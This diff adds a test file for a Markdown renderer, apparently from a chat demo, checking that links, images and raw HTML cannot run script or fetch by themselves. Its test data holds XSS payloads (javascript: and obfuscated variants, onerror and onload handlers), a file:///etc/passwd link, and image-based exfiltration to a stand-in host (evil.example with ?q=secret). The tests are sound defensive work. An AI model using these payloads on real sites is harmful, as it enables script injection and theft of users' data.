@@ -1,0 +1,157 @@
+import { fireEvent, render, screen } from '@testing-library/react';
+import { describe, expect, it } from 'vitest';
+import { Markdown } from '../../demo/src/markdown/Markdown.tsx';
+import { safeUrl } from '../../demo/src/markdown/url.ts';
+
+const show = (text: string): HTMLElement => render(<Markdown text={text} />).container;
+const secret = 'https://evil.example/p.png?q=secret';
+
+/** Everything in the tree that makes a browser fetch by itself, or run something. */
+function active(container: HTMLElement): readonly string[] {
+  const found = container.querySelectorAll(
+    'img, script, style, iframe, object, embed, link, video, audio, source, svg image, [srcset], [style], [background]',
+  );
+  const handlers = [...container.querySelectorAll('*')].filter((element) =>
+    [...element.attributes].some(({ name }) => name.startsWith('on')),
+  );
+  return [...found, ...handlers].map((element) => element.outerHTML);
+}
+
+describe('links', () => {
+  it.each([
+    'javascript:alert(1)',
+    'JaVaScRiPt:alert(1)',
+    'java&#x09;script:alert(1)',
+    'java&#10;script:alert(1)',
+    '&#1;javascript:alert(1)',
+    '%20javascript:alert(1)',
+    'javascript&colon;alert(1)',
+    'vbscript:msgbox(1)',
+    'data:text/html,<script>alert(1)</script>',
+    'DATA:text/html;base64,PHNjcmlwdD4=',
+    'blob:https://evil.example/1',
+    'file:///etc/passwd',
+    'filesystem:https://evil.example/x',
+    'view-source:https://evil.example',
+    'about:blank',
+    '//evil.example/x',
+    '/settings',
+    '#/s/other-session',
+    'https://bank.example@evil.example/',
+    'https:\\\\evil.example',
+  ])('does not offer %s', (url) => {
+    expect(show(`[press](<${url}>) and [press][r]\n\n[r]: <${url}>`).querySelector('a')).toBeNull();
+    expect(screen.getAllByText('press', { exact: false }).length).toBeGreaterThan(0);
+  });
+
+  it('opens a link elsewhere, without a way back, and shows its whole address', () => {
+    const link = show('[the guide](https://docs.example/a?b=c#d)').querySelector('a');
+    expect(link?.getAttribute('href')).toBe('https://docs.example/a?b=c#d');
+    expect(link?.target).toBe('_blank');
+    expect(link?.rel.split(' ')).toEqual(expect.arrayContaining(['noopener', 'noreferrer']));
+    expect(link?.textContent).toContain('https://docs.example/a?b=c#d');
+  });
+
+  it('says a bare address only once', () => {
+    expect(show('See https://docs.example/a now').querySelector('a')?.textContent).toBe('https://docs.example/a');
+  });
+
+  it('shows the true address of one that looks like another', () => {
+    expect(show('[https://bank.example](https://evil.example)').querySelector('a')?.textContent).toContain(
+      'https://evil.example/',
+    );
+  });
+
+  it.each([
+    ['https://a.example', 'https://a.example/'],
+    ['HTTPS://A.example/x', 'https://a.example/x'],
+    ['http://localhost:8080/', 'http://localhost:8080/'],
+    ['mailto:a@b.example', 'mailto:a@b.example'],
+    ['https://аpple.example/', 'https://xn--pple-43d.example/'],
+    ['https://a.example/\u202egnp.exe', undefined],
+    ['java\tscript:alert(1)', undefined],
+    [' javascript:alert(1)', undefined],
+    ['', undefined],
+  ])('takes %j as %j', (url, safe) => {
+    expect(safeUrl(url)).toBe(safe);
+  });
+});
+
+describe('pictures', () => {
+  it.each([
+    ['inline', `![a](${secret})`],
+    ['by reference', `![a][r]\n\n[r]: ${secret}`],
+    ['by a shortened reference', `![r]\n\n[r]: ${secret}`],
+    ['by reference from another block', `![a][r]\n\ntext\n\n[r]: ${secret}`],
+    ['within a link', `[![a](${secret})](https://a.example)`],
+    ['in a table', `| a |\n| - |\n| ![a](${secret}) |`],
+    ['in a list', `- ![a](${secret})`],
+    ['in a footnote', `a[^1]\n\n[^1]: ![a](${secret})`],
+    ['as HTML', `<img src="${secret}">`],
+    ['as HTML with srcset', `<img srcset="${secret} 2x">`],
+    ['as SVG', `<svg><image href="${secret}"/></svg>`],
+    ['by a style', `<p style="background:url(${secret})">a</p>\n\n<style>@import "${secret}"</style>`],
+  ])('are not fetched by themselves: %s', (_how, text) => {
+    // However far it has been streamed.
+    for (let end = 1; end <= text.length; end += 1) {
+      const { container, unmount } = render(<Markdown text={text.slice(0, end)} />);
+      expect(active(container)).toEqual([]);
+      unmount();
+    }
+  });
+
+  it('load on a click, and only this one address, sent nobody’s referrer', () => {
+    const { container, rerender } = render(<Markdown text={`![a brook](${secret})`} />);
+    fireEvent.click(screen.getByRole('button', { name: /a brook.*evil\.example/u }));
+    const image = container.querySelector('img');
+    expect(image?.src).toBe(secret);
+    expect(image?.getAttribute('referrerpolicy')).toBe('no-referrer');
+
+    rerender(<Markdown text={`![a brook](${secret}2)`} />);
+    expect(container.querySelector('img')).toBeNull();
+  });
+
+  it.each(['data:image/svg+xml,<svg onload=alert(1)>', 'javascript:alert(1)', '/local.png', 'file:///x.png'])(
+    'are not even offered from %s',
+    (url) => {
+      const container = show(`![a](<${url}>)`);
+      expect(container.querySelector('button, img')).toBeNull();
+    },
+  );
+});
+
+describe('HTML', () => {
+  it.each([
+    '<script>alert(1)</script>',
+    '<b onclick="alert(1)">b</b>',
+    '<iframe src="https://evil.example"></iframe>',
+    '<a href="javascript:alert(1)">a</a>',
+    'text <img src=x onerror=alert(1)> text',
+    '<svg/onload=alert(1)>',
+    '<math><mi xlink:href="data:x,<script>alert(1)</script>">',
+    '<form action="https://evil.example"><input name=a></form>',
+  ])('stays text: %s', (html) => {
+    const container = show(`${html}\n\n${html}`);
+    expect(active(container)).toEqual([]);
+    expect(container.querySelector('a, b, form, svg, math')).toBeNull();
+    expect(container.textContent).toContain(html.slice(0, 8));
+  });
+});
+
+describe('growing text', () => {
+  it('keeps the elements of blocks that stand', () => {
+    const { container, rerender } = render(<Markdown text={'# Title\n\nFirst.\n\nSec'} />);
+    const [title, first] = [container.querySelector('h1'), container.querySelector('p')];
+    rerender(<Markdown text={'# Title\n\nFirst.\n\nSecond.\n\nThird'} />);
+    expect(container.querySelector('h1')).toBe(title);
+    expect(container.querySelector('p')).toBe(first);
+    expect(container.querySelectorAll('p')).toHaveLength(3);
+  });
+
+  it('shows code in a frame with its language', () => {
+    const container = show('```ts\nconst a = "<b>";\n```\n\n- in a list\n\n  ```sh\n  ls\n  ```');
+    expect(screen.getByRole('figure', { name: 'Code, ts' }).textContent).toContain('const a = "<b>";');
+    expect(screen.getByRole('figure', { name: 'Code, sh' }).textContent).toContain('ls');
+    expect(container.querySelectorAll('pre')).toHaveLength(2);
+  });
+});
